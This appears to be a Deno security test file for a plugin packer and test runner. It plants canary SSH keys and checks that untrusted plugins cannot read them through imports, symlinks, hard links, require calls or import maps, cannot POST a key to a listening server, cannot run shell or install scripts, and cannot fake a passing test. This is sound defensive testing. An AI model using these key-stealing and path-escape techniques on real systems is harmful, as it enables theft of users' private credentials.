/** A plugin of somebody else's that is only packed or tested: it must not be able to take a file
 * along, reach anybody, or run anything. */

import assert from "node:assert/strict";
import { packPlugin } from "../../../src/kernel/plugin_author/pack.ts";
import { runPluginTests } from "../../../src/kernel/plugin_author/run_tests.ts";
import { pluginPaths } from "../../../src/kernel/plugins/mod.ts";
import { NO_RIGHTS } from "../../../src/processes/mod.ts";
import { DENO_DIR, PluginHome } from "../../support/plugins.ts";
import { standing } from "../../support/walls.ts";
import { PluginUser } from "../../support/plugin_user.ts";
import { ROOT } from "../../support/pyra.ts";

/** A user with a key, and a server that hears whether somebody calls. */
class Victim extends PluginUser {
  readonly heard: string[] = [];
  readonly #server = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen() {} },
    async (request) => {
      this.heard.push(await request.text());
      return new Response("");
    },
  );
  readonly address = `127.0.0.1:${this.#server.addr.port}`;
  readonly key = `${this.path}/.ssh/id_rsa`;

  constructor() {
    super();
    Deno.mkdirSync(`${this.path}/.ssh`);
    Deno.writeTextFileSync(this.key, "canary-private-key");
    Deno.writeTextFileSync(`${this.path}/.ssh/known.json`, '{"host":"canary-known-host"}');
  }

  override async [Symbol.asyncDispose](): Promise<void> {
    await this.#server.shutdown();
    await super[Symbol.asyncDispose]();
  }
}

Deno.test("A9: pyra plugin pack takes no file from outside the folder along", async () => {
  await using user = new Victim();
  const below = "../.ssh";
  const ways: Record<string, string> = {
    "a text import": `import key from "${user.key}" with { type: "text" }; export default { key };`,
    "a relative text import": `import key from "${below}/id_rsa" with { type: "text" };
      export default { key };`,
    "bytes": `import key from "${user.key}" with { type: "bytes" }; export default { key };`,
    "json":
      `import known from "${below}/known.json" with { type: "json" }; export default { known };`,
    "an import that is made late": `export default { key: await import("${below}/known.json",
      { with: { type: "json" } }) };`,
    "require": `import { createRequire } from "node:module"; import known from "./require.cjs";
      export default { known };`,
    "a link": `import key from "./link.txt" with { type: "text" }; export default { key };`,
    "a second name":
      `import key from "./second.txt" with { type: "text" }; export default { key };`,
    "the imports of deno.json":
      `import key from "key" with { type: "text" }; export default { key };`,
  };
  for (const [way, code] of Object.entries(ways)) {
    await user.write("packed", code);
    const folder = `${user.path}/packed`;
    if (way === "require") {
      await Deno.writeTextFile(
        `${folder}/require.cjs`,
        `module.exports = require("${below}/known.json");`,
      );
    }
    if (way === "a link") await Deno.symlink(user.key, `${folder}/link.txt`);
    if (way === "a second name") await Deno.link(user.key, `${folder}/second.txt`);
    if (way === "the imports of deno.json") {
      const imports = { key: `${below}/id_rsa` };
      await Deno.writeTextFile(`${folder}/deno.json`, JSON.stringify({ imports }));
    }
    const { code: exit, stdout, stderr } = await user.run("plugin", "pack", "./packed");
    assert.equal(exit, 1, way);
    assert.match(stderr, /outside the plugin's folder|is a link, or not a plain file/, way);
    assert.ok(!(stdout + stderr).includes("canary"), way);
    await assert.rejects(Deno.stat(`${folder}.tar.gz`), Deno.errors.NotFound, way);
    await Deno.remove(folder, { recursive: true });
  }
});

Deno.test("A9: a plugin that is packed runs none of its packages' scripts", async () => {
  await using user = new Victim();
  await user.write("packed", "export default {};");
  const folder = `${user.path}/packed`;
  const settings = { nodeModulesDir: "auto", allowScripts: true, imports: {} };
  await Deno.writeTextFile(`${folder}/deno.json`, JSON.stringify(settings));
  const scripts = { postinstall: `touch ${user.path}/RAN`, install: `touch ${user.path}/RAN` };
  await Deno.writeTextFile(`${folder}/package.json`, JSON.stringify({ name: "packed", scripts }));
  await user.ok("plugin", "pack", "./packed");
  await assert.rejects(Deno.stat(`${user.path}/RAN`), Deno.errors.NotFound);
});

for (const wall of ["setpriv", "bwrap"] as const) {
  const path = `/usr/bin/${wall}`;
  const ignore = !await Deno.stat(path).then(() => true, () => false);
  Deno.test({
    name: `packPlugin() gives the same bytes with ${wall}, packages of npm included`,
    ignore,
    fn: async () => {
      const options = {
        denoPath: Deno.execPath(),
        bundleEntry: `${ROOT}/src/plugins/bundle_host.ts`,
        denoDir: DENO_DIR,
      };
      const folder = `${ROOT}/plugins-bundled/ssh_tool`;
      const walls = wall === "bwrap" ? { bwrap: path } : { ...standing("both").walls };
      const { hashes } = await packPlugin(folder, { ...options, walls });
      const plain = await packPlugin(folder, { ...options, walls: {} });
      assert.deepEqual(hashes, plain.hashes);
      assert.deepEqual(Object.keys(hashes), ["README.md", "manifest.json", "plugin.js"]);
    },
  });
}

const STEALING = (victim: Victim) =>
  `import key from "${victim.key}" with { type: "text" };
  Deno.test("sends it", () => fetch("http://${victim.address}", { method: "POST", body: key }));`;

Deno.test("A8: a test file reads nothing by a static import", async () => {
  await using user = new Victim();
  await user.write("tested", "export default {};", { permissions: { net: [user.address] } });
  await Deno.writeTextFile(`${user.path}/tested/plugin_test.js`, STEALING(user));
  const { code, stdout, stderr } = await user.run(
    ...["plugin", "test", "./tested", "--allow", `net=${user.address}`],
  );
  assert.equal(code, 1);
  assert.match(stdout + stderr, /Requires read access/);
  assert.ok(!(stdout + stderr).includes("canary"));
  assert.deepEqual(user.heard, []);
});

Deno.test("A8: tests get nothing of what the manifest asks for without a yes", async () => {
  await using user = new Victim();
  await Deno.mkdir(`${user.path}/notes`);
  await user.write("tested", "export default {};", {
    permissions: {
      run: ["/bin/sh"],
      net: [user.address],
      read: ["$DATA", `${user.path}/notes`],
      write: ["$DATA"],
    },
  });
  await Deno.writeTextFile(
    `${user.path}/tested/plugin_test.js`,
    `Deno.test("runs", () => new Deno.Command("/bin/sh",
      { args: ["-c", "id > ${user.path}/RAN"] }).outputSync());
    Deno.test("sends", () => fetch("http://${user.address}", { method: "POST", body: "x" }));
    Deno.test("reads", () => [...Deno.readDirSync("${user.path}/notes")]);
    Deno.test("writes", () => Deno.writeTextFileSync("own", "x"));`,
  );
  const none = await user.run("plugin", "test", "./tested");
  assert.equal(none.code, 1);
  assert.match(none.stdout, /1 passed \| 3 failed/);
  assert.match(none.stderr, /The tests ran without .*run=\/bin\/sh/);
  assert.deepEqual(user.heard, []);
  await assert.rejects(Deno.stat(`${user.path}/RAN`), Deno.errors.NotFound);
  const some = await user.run("plugin", "test", "./tested", "--allow", `net=${user.address}`);
  assert.match(some.stdout, /2 passed \| 2 failed/);
  assert.deepEqual(user.heard, ["x"]);
  const other = await user.run("plugin", "test", "./tested", "--allow", "net=example.org:443");
  assert.equal(other.code, 4);
  assert.match(other.stderr, /does not ask for net=example\.org:443/);
});

Deno.test("A8: a test that ends the process, or says it passed, has not passed", async () => {
  await using user = new Victim();
  await user.write("tested", "export default {};");
  const tricks = [
    `Deno.test("ends", () => Deno.exit(0));`,
    `import process from "node:process"; Deno.test("ends", () => process.exit(0));`,
    `process.exit(0);`,
    `Deno.test("waits for ever", () => new Promise(() => {}));`,
    `export const nothing = 1;`,
    `Deno.test("throws elsewhere", () => void Promise.reject(new Error("stray")));`,
  ];
  for (const trick of tricks) {
    await Deno.writeTextFile(`${user.path}/tested/plugin_test.js`, trick);
    assert.equal((await user.run("plugin", "test", "./tested")).code, 1, trick);
  }
});

Deno.test({
  name: "A8: tests run inside the second wall as well",
  ignore: !await Deno.stat("/usr/bin/bwrap").then(() => true, () => false),
  fn: async () => {
    await using user = new Victim();
    await using home = new PluginHome();
    await user.write("tested", "export default {};");
    await Deno.writeTextFile(
      `${user.path}/tested/plugin_test.js`,
      `Deno.test("loads and writes", () => Deno.writeTextFileSync("own", "x"));`,
    );
    const { data } = pluginPaths(home.folder).of("tested");
    const report = await runPluginTests(`${user.path}/tested`, {
      name: "tested",
      rights: { ...NO_RIGHTS, read: [data], write: [data] },
      ports: { ...home.ports(), walls: { bwrap: "/usr/bin/bwrap" } },
      home: home.folder,
      testEntry: `${ROOT}/src/plugins/test_host.ts`,
    });
    assert.ok(report.passed, report.output);
  },
});
